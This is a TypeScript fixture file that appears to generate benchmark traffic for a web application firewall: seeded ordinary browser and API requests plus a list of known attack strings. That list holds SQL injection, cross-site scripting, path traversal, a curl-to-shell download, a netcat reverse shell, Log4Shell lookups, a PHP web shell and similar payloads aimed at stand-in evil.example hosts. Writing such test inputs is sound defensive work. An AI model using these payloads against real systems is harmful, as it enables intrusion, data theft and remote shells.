/**
 * Requests for the WAF benchmarks, the same for every engine: what browsers and API clients send, made from a seed, and
 * attacks in our own words.
 */
import { readFileSync } from 'node:fs';
import type { RawTransaction } from '../../src/waf/transaction.ts';
import { CARRIERS, Chance } from '../../test/conformance/crs/mutation.ts';

type Headers = readonly (readonly [name: string, value: string])[];

const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0',
];
const WORDS = 'garden table chair lamp blue oak winter linen brass small round coffee desk shelf paper stone'.split(
  ' ',
);

const token = (chance: Chance, length: number): string => {
  let out = '';
  while (out.length < length) out += Math.floor(chance.next() * 2 ** 32).toString(36);
  return out.slice(0, length);
};
const words = (chance: Chance, count: number, between: string): string =>
  Array.from({ length: count }, () => chance.pick(WORDS)).join(between);

function browser(chance: Chance, more: Headers = []): Headers {
  const cookies = [
    `_ga=GA1.2.${chance.below(1e9)}.${1_700_000_000 + chance.below(1e7)}`,
    `session=${token(chance, 32)}`,
    `theme=${chance.pick(['light', 'dark'])}`,
    `cart=${chance.below(1e6)}-${token(chance, 8)}`,
    `consent=analytics%3Dtrue%26marketing%3Dfalse`,
  ];
  return [
    ['Host', 'shop.example.com'],
    ['User-Agent', chance.pick(AGENTS)],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
    ['Accept-Language', 'en-GB,en;q=0.9,de;q=0.7'],
    ['Accept-Encoding', 'gzip, deflate, br'],
    ['Referer', `https://shop.example.com/${words(chance, 1, '')}/${words(chance, 2, '-')}`],
    ['Connection', 'keep-alive'],
    ['Cookie', cookies.slice(0, 1 + chance.below(cookies.length)).join('; ')],
    ['Sec-Fetch-Dest', 'document'],
    ['Sec-Fetch-Mode', 'navigate'],
    ['Sec-Fetch-Site', 'same-origin'],
    ...more,
  ];
}

function transaction(method: string, uri: string, headers: Headers, body: Uint8Array | string = ''): RawTransaction {
  const own: Headers = body.length > 0 ? [...headers, ['Content-Length', String(body.length)]] : headers;
  return { method, uri, protocol: 'HTTP/1.1', headers: own, body, peer: '203.0.113.7' };
}

/** Ordinary page views: paths, searches, filters, tracking parameters, cookies. */
export function gets(count = 60): RawTransaction[] {
  const chance = new Chance(7);
  const targets: ((chance: Chance) => string)[] = [
    () => '/',
    (c) => `/${words(c, 1, '')}/${words(c, 3, '-')}-${c.below(10000)}.html`,
    (c) => `/search?q=${words(c, 3, '+')}&page=${c.below(20)}`,
    (c) => `/products?category=${words(c, 1, '')}&colour=blue&min=10&max=${c.below(900)}&sort=price_asc&view=grid`,
    (c) => `/static/js/app.${token(c, 12)}.js`,
    (c) => `/images/${token(c, 6)}/${words(c, 2, '_')}.webp?w=640&h=480&fit=cover`,
    (c) =>
      `/p/${c.below(100000)}?utm_source=newsletter&utm_medium=email&utm_campaign=${words(c, 2, '_')}&gclid=${token(c, 40)}`,
    (c) => `/account/orders/${c.below(1e6)}?return=%2Faccount%2Forders%3Fpage%3D2`,
    (c) => `/api/v2/items?ids=${c.below(999)},${c.below(999)},${c.below(999)}&fields=name,price,stock&locale=en-GB`,
    (c) => `/blog/2026/0${1 + c.below(9)}/${words(c, 5, '-')}?comment=${c.below(500)}`,
  ];
  return Array.from({ length: count }, () => transaction('GET', chance.pick(targets)(chance), browser(chance)));
}

/** English prose of at least `length` bytes: sentences of the licence in random order. */
export function prose(length: number, seed = 3): string {
  const chance = new Chance(seed);
  const licence = readFileSync(new URL('../../LICENSE', import.meta.url), 'utf8').replaceAll(/\s+/g, ' ');
  const sentences = licence.match(/[A-Z][^.;:]{20,300}[.;:]/g) ?? [];
  if (sentences.length < 20) throw new Error('LICENSE holds too few sentences to make prose of');
  let out = '';
  while (out.length < length) out += `${chance.pick(sentences)} `;
  return out.slice(0, length);
}

export type BodyKind = 'json' | 'form' | 'prose' | 'clear' | 'upload';

/** A POST whose body is about `length` bytes; of `prose` and `clear` exactly. */
export function post(kind: BodyKind, length: number): RawTransaction {
  const chance = new Chance(length);
  const send = (uri: string, type: string, body: string): RawTransaction =>
    transaction('POST', uri, browser(chance, [['Content-Type', type]]), body);
  if (kind === 'json') {
    const items: unknown[] = [];
    for (let size = 0; size < length; size += JSON.stringify(items.at(-1)).length + 1)
      items.push({
        id: token(chance, 12),
        name: words(chance, 2, ' '),
        email: `${words(chance, 1, '')}.${chance.below(99)}@example.com`,
        price: chance.below(100000) / 100,
        stock: chance.below(50),
        tags: [chance.pick(WORDS), chance.pick(WORDS)],
        active: chance.next() < 0.5,
        updated: `2026-11-${10 + chance.below(20)}T1${chance.below(10)}:30:00Z`,
        note: words(chance, 6, ' '),
      });
    return send('/api/v2/items', 'application/json', JSON.stringify({ items }));
  }
  if (kind === 'upload') {
    let file = '';
    while (file.length < length) file += String.fromCharCode(chance.below(256));
    const field = (name: string, value: string, more = ''): string =>
      `--b0undary77\r\nContent-Disposition: form-data; name="${name}"${more}\r\n\r\n${value}\r\n`;
    const photo = field('photo', file, '; filename="holiday.jpg"\r\nContent-Type: image/jpeg');
    return send(
      '/upload',
      'multipart/form-data; boundary=b0undary77',
      `${field('title', words(chance, 4, ' '))}${photo}--b0undary77--\r\n`,
    );
  }
  const form = 'application/x-www-form-urlencoded';
  if (kind === 'form') {
    const fields: string[] = [];
    // A hundred fields at most: more is an attack to CRS.
    const each = Math.max(10, Math.ceil(length / 100));
    for (let size = 0; size < length; size += fields.at(-1)!.length + 1)
      fields.push(`field${fields.length}=${words(chance, Math.ceil(each / 6), '+')}`);
    return send('/account/settings', form, fields.join('&'));
  }
  // Exactly that long, so that slopes can be read off.
  const room = length - 'text='.length;
  const text = kind === 'clear' ? 'a'.repeat(room) : encodeURIComponent(prose(length)).replaceAll('%20', '+');
  return send('/comments', form, `text=${text.slice(0, room).replace(/%.?$/, 'aa').slice(0, room).padEnd(room, 'a')}`);
}

const ATTACKS: readonly string[] = [
  "1' OR '1'='1' -- ",
  '1 UNION SELECT username, password FROM users--',
  '1; DROP TABLE orders',
  "admin'/**/AND/**/SLEEP(5)#",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=fetch("//evil.example")>',
  'javascript:alert(1)',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fwindows/win.ini',
  '; cat /etc/passwd',
  '$(curl http://evil.example/x.sh | sh)',
  '`id`',
  '| nc -e /bin/sh 10.0.0.1 4444',
  '${jndi:ldap://evil.example/a}',
  '${${lower:j}ndi:${lower:l}dap://evil.example/a}',
  'http://169.254.169.254/latest/meta-data/',
  'php://filter/convert.base64-encode/resource=index.php',
  '<?php system($_GET["c"]); ?>',
  '{{7*7}}{{config.items()}}',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
  '() { :;}; /bin/bash -c "id"',
  'require("child_process").exec("id")',
  '__proto__[admin]=1',
];

/** Each attack in several places, one request each. */
export function attacks(): RawTransaction[] {
  const chance = new Chance(11);
  const places = ['query', 'form', 'JSON', 'cookie', 'header', 'multipart', 'XML', 'path'];
  return ATTACKS.flatMap((attack, index) =>
    [0, 3, 5].map((step) => CARRIERS[places[(index + step) % places.length]!]!(attack, chance)),
  );
}
